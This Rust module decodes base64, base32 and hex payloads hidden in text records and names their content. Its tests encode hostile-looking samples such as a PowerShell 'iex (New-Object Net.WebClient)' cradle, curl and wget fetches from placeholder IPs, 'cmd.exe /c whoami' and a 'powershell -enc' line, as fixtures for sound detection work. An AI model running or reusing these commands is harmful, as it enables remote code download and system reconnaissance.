//! What is encoded in a text: the longest run of an encoding's alphabet, decoded and named by its content.
//!
//! It serves explanations alone; no score depends on it. What comes out is for eyes: cut, and with everything that would
//! move a cursor or break a line escaped. Work is bounded: the first 64 KiB of a text, and what is encoded in what is encoded
//! at most three deep.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use data_encoding::{BASE32_NOPAD, HEXLOWER_PERMISSIVE};

use crate::content::{WITH_WORDS, as_text, of_bytes, of_text, readable};
use crate::safe::one_line;

/// Bytes of a text that are looked at.
const MOST: usize = 64 << 10;
/// Encodings inside one another that are followed.
const DEPTH: usize = 3;
/// Runs of a text that are decoded.
const MOST_RUNS: usize = 16;
/// Characters of a decoded payload that are shown.
pub const SHOWN: usize = 200;

/// How a payload was written into a text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    Base64,
    Base64Url,
    Base32,
    Hex,
    /// The text itself is bytes that are no characters: a log or a zone showed them escaped.
    EscapedBytes,
}

impl Encoding {
    pub fn name(self) -> &'static str {
        match self {
            Self::Base64 => "base64",
            Self::Base64Url => "base64url",
            Self::Base32 => "base32",
            Self::Hex => "hex",
            Self::EscapedBytes => "escaped bytes",
        }
    }
}

/// An encoded payload.
#[derive(Debug, PartialEq, Eq)]
pub struct Payload {
    pub encoding: Encoding,
    /// Characters of the text that it takes.
    pub characters: usize,
    /// What it is, where its bytes tell: `gzip`, `PowerShell`, `base64 of ELF`.
    pub content: Option<String>,
    /// At most [`SHOWN`] characters of it.
    pub shown: String,
}

/// The payload of a normalised text, if it holds one.
pub fn find(text: &[u8]) -> Option<Payload> {
    inside(text.get(..MOST).unwrap_or(text), DEPTH)
}

fn inside(text: &[u8], depth: usize) -> Option<Payload> {
    if is_binary(text) {
        return Some(payload(Encoding::EscapedBytes, text.len(), text, 1)); // bytes hold no further text
    }
    let in_pieces = in_pieces(text);
    let mut runs: Vec<(Encoding, &[u8])> = runs(text).filter_map(|run| Some((encoding_of(run)?, run))).collect();
    runs.sort_by_key(|(_, run)| std::cmp::Reverse(run.len())); // of equals the first stays first
    runs.truncate(MOST_RUNS);
    // What a switch of PowerShell says is encoded may be short. What is in pieces counts where it decodes to something.
    let flagged = flagged(text).map(|run| (Encoding::Base64, run, true));
    let in_pieces = in_pieces.iter().map(|(encoding, run)| (*encoding, &**run, false));
    let candidates = flagged.into_iter().chain(in_pieces).chain(runs.into_iter().map(|(encoding, run)| (encoding, run, true)));
    let (mut odd, mut unnamed) = (None, None);
    for (encoding, run, in_one_piece) in candidates {
        for bytes in decodings(encoding, run) {
            let payload = payload(encoding, run.len(), &bytes, depth);
            match &payload.content {
                // Words among other bytes: a decoding that is off by a character may leave them so.
                Some(content) if content.starts_with(WITH_WORDS) => odd = odd.or(Some(payload)),
                Some(_) => return Some(payload),
                None => {
                    // A name in this alphabet decodes to something as well: without a sign of encoding it must be long.
                    const LONG: usize = 40;
                    let sure = encoding != Encoding::Base32 && run.iter().any(u8::is_ascii_digit) || run.len() >= LONG;
                    unnamed = unnamed.or(Some(payload).filter(|_| sure && in_one_piece && !is_wordy(run)));
                }
            }
        }
    }
    odd.or(unnamed)
}

/// Whether a text is bytes that people do not read: no UTF-8 and a quarter or more of it unusual, or half of it unusual with
/// control characters. Latin-1 prose is not.
fn is_binary(text: &[u8]) -> bool {
    let is_control = |byte: &&u8| byte.is_ascii_control() && !matches!(byte, b'\t' | b'\n' | b'\r');
    let odd = text.iter().filter(|byte| is_control(byte) || !byte.is_ascii()).count();
    std::str::from_utf8(text).is_err() && odd * 4 >= text.len() || odd * 2 >= text.len() && text.iter().any(|byte| is_control(&byte))
}

/// The longest parts of a text that are one encoding's, what stands in them behind a sign, and the pieces between signs of either
/// alphabet or of both: a prefix with a hyphen or a slash is none of the payload's.
fn runs(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    const PREFIXES: usize = 4;
    let between = |signs: &'static [u8]| text.split(move |byte| !(byte.is_ascii_alphanumeric() || signs.contains(byte)));
    let behind_signs = between(b"+/-_").flat_map(|run| {
        let signs = run.iter().enumerate().filter(|(_, byte)| b"/-_".contains(byte)).take(PREFIXES);
        signs.filter_map(|(at, _)| run.get(at + 1..))
    });
    let all = between(b"+/-_").chain(behind_signs).chain(between(b"+/")).chain(between(b"-_")).chain(between(b""));
    all.map(|run| run.strip_prefix(b"0x").unwrap_or(run))
}

/// Whether at least half of what stands between signs are words: a path or a name, which decodes to something as well.
fn is_wordy(run: &[u8]) -> bool {
    const SHORTEST: usize = 3;
    // `wiki`, `WIKI`, `HomePage2`: runs of small letters, each behind one capital or none, and a number.
    let is_word = |piece: &&[u8]| {
        let letters = piece.iter().position(u8::is_ascii_digit).map_or(*piece, |end| piece.get(..end).unwrap_or_default());
        let rest = piece.get(letters.len()..).unwrap_or_default();
        let mut parts = letters.chunk_by(|_, next| next.is_ascii_lowercase());
        letters.len() >= SHORTEST
            && rest.len() < SHORTEST
            && letters.iter().chain(rest).all(u8::is_ascii_alphanumeric)
            && (letters.iter().all(u8::is_ascii_uppercase) || parts.all(|part| part.len() >= SHORTEST))
    };
    let pieces: Vec<&[u8]> = run.split(|byte| !byte.is_ascii_alphanumeric()).filter(|piece| !piece.is_empty()).collect();
    pieces.len() > 1 && pieces.iter().filter(|piece| is_word(piece)).count() * 2 >= pieces.len()
}

/// What stands behind PowerShell's switch for encoded commands.
fn flagged(text: &[u8]) -> Option<&[u8]> {
    const SWITCHES: [&[u8]; 4] = [b"-enc ", b"-e ", b"-ec ", b"-encodedcommand "];
    const SHORTEST: usize = 8;
    let low = text.to_ascii_lowercase();
    if ![&b"powershell"[..], b"pwsh"].iter().any(|word| memchr::memmem::find(&low, word).is_some()) {
        return None;
    }
    let at = SWITCHES.iter().find_map(|switch| Some(memchr::memmem::find(&low, switch)? + switch.len()))?;
    let run = text.get(at..)?.split(|byte| !(byte.is_ascii_alphanumeric() || b"+/".contains(byte))).next()?;
    (run.len() >= SHORTEST).then_some(run)
}

/// A text that is nothing but one encoding in pieces: lines of base64, bytes of hex with something between them.
fn in_pieces(text: &[u8]) -> Option<(Encoding, Vec<u8>)> {
    const SHORTEST: usize = 16;
    let without = |between: &[u8]| text.iter().copied().filter(|byte| !between.contains(byte)).collect::<Vec<u8>>();
    let whole = text.trim_ascii();
    if !whole.iter().any(|byte| b" \t\r\n:,;".contains(byte)) {
        return None;
    }
    let hex = without(b" \t\r\n:,;xX\\");
    // `0x4d, 0x5a`: the zero before an x is none of the byte's.
    let marks = memchr::memmem::find_iter(text, b"0x").count();
    let hex = if marks > 0 && marks * 3 == hex.len() {
        hex.chunks_exact(3).flat_map(|byte| byte.get(1..)).flatten().copied().collect()
    } else {
        hex
    };
    if hex.len() >= SHORTEST && hex.iter().all(u8::is_ascii_hexdigit) {
        return Some((Encoding::Hex, hex));
    }
    let base64 = without(b" \t\r\n=");
    let alphabet = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/".contains(byte);
    (base64.len() >= SHORTEST && base64.iter().all(alphabet)).then_some((Encoding::Base64, base64))
}

/// How a run is likely encoded.
fn encoding_of(run: &[u8]) -> Option<Encoding> {
    let count = |is: fn(&u8) -> bool| run.iter().filter(|byte| is(byte)).count();
    let (upper, lower, digits) = (count(u8::is_ascii_uppercase), count(u8::is_ascii_lowercase), count(u8::is_ascii_digit));
    // A number has no letters.
    if run.len() >= 16 && run.iter().all(u8::is_ascii_hexdigit) && digits > 0 && upper + lower > 0 {
        return Some(Encoding::Hex);
    }
    let in_base32 = |byte: &u8| byte.is_ascii_alphabetic() || (b'2'..=b'7').contains(byte);
    if run.len() >= 24 && digits > 0 && (upper == 0) != (lower == 0) && run.iter().all(in_base32) {
        return Some(Encoding::Base32);
    }
    // What programs and archives begin with has few small letters, being mostly zero.
    const HEADERS: [&[u8]; 7] = [b"TVqQ", b"TVpQ", b"TVoA", b"TVro", b"f0VMR", b"H4sI", b"UEsDB"];
    if run.len() >= 16 && HEADERS.iter().any(|header| run.starts_with(header)) {
        return Some(if run.iter().any(|byte| b"-_".contains(byte)) { Encoding::Base64Url } else { Encoding::Base64 });
    }
    // Words and names have few capitals, digits or neither.
    let capitals = if digits > 0 || run.len() >= 40 { 8 } else { 4 };
    let mixed = upper * capitals >= run.len() && lower * 8 >= run.len();
    if run.len() < 20 || !mixed {
        return None;
    }
    match (run.iter().any(|byte| b"-_".contains(byte)), run.iter().any(|byte| b"+/".contains(byte))) {
        (true, true) => None,
        (true, false) => Some(Encoding::Base64Url),
        (false, _) => Some(Encoding::Base64),
    }
}

/// What a run decodes to, from its beginning and, in base64, from the three places after it.
fn decodings(encoding: Encoding, run: &[u8]) -> impl Iterator<Item = Vec<u8>> {
    let lenient =
        GeneralPurposeConfig::new().with_decode_allow_trailing_bits(true).with_decode_padding_mode(DecodePaddingMode::Indifferent);
    let starts = if matches!(encoding, Encoding::Base64 | Encoding::Base64Url) { 0..4 } else { 0..1 };
    let run = run.to_vec();
    starts.filter_map(move |start| {
        let run = run.get(start..)?;
        let quads = if run.len() % 4 == 1 { run.get(..run.len() - 1)? } else { run };
        match encoding {
            Encoding::Base64 => GeneralPurpose::new(&alphabet::STANDARD, lenient).decode(quads).ok(),
            Encoding::Base64Url => GeneralPurpose::new(&alphabet::URL_SAFE, lenient).decode(quads).ok(),
            // Not every length is one; what is too much is left out.
            Encoding::Base32 => {
                let run = run.to_ascii_uppercase();
                (0..8).find_map(|cut| BASE32_NOPAD.decode(run.get(..run.len().checked_sub(cut)?)?).ok())
            }
            // A string of DNS has 255 bytes, and half a byte is none.
            Encoding::Hex => HEXLOWER_PERMISSIVE.decode(run.get(..run.len() / 2 * 2)?).ok(),
            Encoding::EscapedBytes => None,
        }
    })
}

fn payload(encoding: Encoding, characters: usize, bytes: &[u8], depth: usize) -> Payload {
    let text = as_text(bytes);
    if let (Some(text), true) = (&text, depth > 1)
        && let Some(inner) = inside(text.as_bytes(), depth - 1)
        && inner.content.is_some()
        && inner.characters * 10 >= text.len() * 8
    {
        let content = format!("{} of {}", inner.encoding.name(), inner.content.unwrap_or_default());
        return Payload { encoding, characters, content: Some(content), shown: inner.shown };
    }
    let content = match &text {
        Some(text) => Some(of_text(text)),
        None => of_bytes(bytes),
    };
    let shown = match text {
        Some(text) => one_line(&text, SHOWN),
        None if content.is_some_and(|content| content.starts_with(WITH_WORDS)) => one_line(readable(bytes).trim_start(), SHOWN),
        None => format!("{} bytes", bytes.len()),
    };
    Payload { encoding, characters, content: content.map(str::to_owned), shown }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn found(text: &[u8]) -> (String, String, String) {
        let payload = find(text).unwrap_or_else(|| panic!("nothing in {}", text.escape_ascii()));
        (payload.encoding.name().to_owned(), payload.content.unwrap_or_default(), payload.shown)
    }

    fn base64(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn payloads_are_named_by_their_content() {
        let utf16: Vec<u8> = "iex (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_le_bytes).collect();
        for (text, expected) in [
            (base64(&utf16), ("base64", "PowerShell", "iex (New-Object Net.WebClient)")),
            (format!("v=spf1 include:{} ~all", base64(&utf16)), ("base64", "PowerShell", "iex (New-Object Net.WebClient)")),
            (base64(b"SSH-2.0-OpenSSH_9.2p1 Debian"), ("base64", "SSH banner", "SSH-2.0-OpenSSH_9.2p1 Debian")),
            (base64(br#"{"cmd": "sleep", "seconds": 30}"#), ("base64", "JSON", r#"{"cmd": "sleep", "seconds": 30}"#)),
            (base64(b"#!/bin/sh\nid > /tmp/Out9"), ("base64", "script", "#!/bin/sh id > /tmp/Out9")),
            ("636d642e657865202f632077686f616d69".into(), ("hex", "command", "cmd.exe /c whoami")),
            (BASE32_NOPAD.encode(b"curl http://192.0.2.1/a"), ("base32", "command", "curl http://192.0.2.1/a")),
            (base64(base64(b"wget http://192.0.2.7/Xy8").as_bytes()), ("base64", "base64 of command", "wget http://192.0.2.7/Xy8")),
        ] {
            let (encoding, content, shown) = found(text.as_bytes());
            assert_eq!((&*encoding, &*content, &*shown), expected, "{text}");
        }
        let gzip = [&[0x1f, 0x8b, 8, 0][..], &[0x9c; 40]].concat();
        assert_eq!(found(base64(&gzip).as_bytes()).1, "gzip");
        let elf = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 30]].concat();
        assert_eq!(found(&elf).0, "escaped bytes");
        assert_eq!(found(&elf).1, "ELF");
    }

    #[test]
    fn words_and_names_are_no_encoding() {
        for text in [
            "google-site-verification",
            "v=spf1 include:_spf.google-workspace.example.com -all",
            "this is a text of some words",
            "",
            "1234567890",
        ] {
            assert_eq!(find(text.as_bytes()), None, "{text}");
        }
    }

    /// Found in review, each: what a prefix, a decoy, a string's end or a tabulator hid, and what is no encoding.
    #[test]
    fn payloads_are_found_behind_prefixes_and_cuts_and_names_are_none() {
        let command = base64(b"cmd.exe /c whoami /all");
        for text in [
            format!("{} {command}", "a".repeat(70)),
            format!("facebook-domain-verification={}", base64(b"cmd.exe /c whoami")),
            format!("payload/{command}"),
            format!("a-b/{command}"),
            "0x636d642e657865202f632077686f616d69".into(),
            "636d642e657865202f632077686f616d692".into(),
            format!("{}\t{command}", "é".repeat(10)),
        ] {
            assert_eq!(found(text.as_bytes()).1, "command", "{text}");
        }
        let script: Vec<u8> = "iex (New-Object Net.WebClient)é".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(found(base64(&script[..script.len() - 1]).as_bytes()).1, "PowerShell");
        let cut = "Привет, это".as_bytes();
        assert_eq!(found(base64(&cut[..cut.len() - 1]).as_bytes()).1, "text");
        for text in
            ["ms 2024010112000000", "mailserverforexamplecom2thisislong", "MyVeryBigTextOfSomeWords", "Привет мир\tэто текст записи"]
        {
            assert_eq!(find(text.as_bytes()), None, "{text}");
        }
        assert_eq!(find(b"Soci\xe9t\xe9 g\xe9n\xe9rale: propri\xe9t\xe9 priv\xe9e"), None);
    }

    /// Found in review, each: the beginning of a program was no base64, a prefix hid what has signs in it, a switch what is short,
    /// and spaces what is in pieces.
    #[test]
    fn payloads_are_found_in_every_dress() {
        let program = [&b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8"[..], &[0; 15]].concat();
        let gzip = [&b"\x1f\x8b\x08\0"[..], &[0xfb, 0xff, 0xbe, 0x9c].repeat(12)].concat();
        let spaced = base64(&program).as_bytes().chunks(16).map(|line| String::from_utf8_lossy(line)).collect::<Vec<_>>().join(" ");
        for (text, expected) in [
            (base64(&program), "PE"),
            (format!("docusign={}", base64(&program)), "PE"),
            ("4d5a90000300000004000000ffff0000b8".into(), "PE"),
            (base64(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01"), "ELF"),
            (format!("dnslink=/ipfs/{}", base64(&gzip)), "gzip"),
            (format!("x-{}", base64(&gzip)), "gzip"),
            (format!("https://cdn.example/{}", base64(&gzip)), "gzip"),
            ("powershell -enc dwBoAG8AYQBtAGkA".into(), "command"),
            (spaced, "PE"),
            ("4d 5a 90 00 03 00 00 00 04 00 00 00".into(), "PE"),
            ("0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04".into(), "PE"),
            ("63:75:72:6c:20:68:74:74:70:3a:2f:2f:61".into(), "command"),
            (base64(b"\x1b]0;pwned\x07\x1b[2J cmd.exe /c whoami\x01\x02\x03"), "bytes with a command"),
        ] {
            assert_eq!(found(text.as_bytes()).1, expected, "{text}");
        }
    }

    /// Found in review: paths and names with a prefix were called base64, or counted with it.
    #[test]
    fn paths_are_no_encoding() {
        for text in ["https://check.spamhaus.org/sbl/query/SBL123456", "https://github.com/ORG/RepoName2/Wiki/HomePage"] {
            assert_eq!(find(text.as_bytes()), None, "{text}");
        }
        let token = find(b"ZOOM_verify_q1Zx81kPq0Lm2Ns4Tv6Bw8").unwrap();
        assert_eq!((token.characters, token.shown), (22, "16 bytes".to_owned()));
    }

    #[test]
    fn a_token_is_of_no_known_content() {
        let payload = find(b"google-site-verification=GJMuHbEL31IeL2HPcHyGcFRl1SPnXNYvMIHa-2o76um").unwrap();
        assert_eq!((payload.encoding, payload.content), (Encoding::Base64Url, None));
    }

    proptest! {
        #[test]
        fn anything_is_looked_at_without_a_panic_and_shown_harmless(text: Vec<u8>) {
            if let Some(payload) = find(&text) {
                prop_assert!(payload.shown.chars().count() <= SHOWN && !payload.shown.chars().any(crate::safe::is_hostile));
            }
        }

        #[test]
        fn what_was_encoded_is_found(words in "[a-z]{3,9} [A-Z0-9]{6,12} [a-z]{5,20}") {
            let (encoding, content, text) = found(base64(words.as_bytes()).as_bytes());
            prop_assert_eq!((&*encoding, &*content, text), ("base64", "text", words));
        }
    }
}
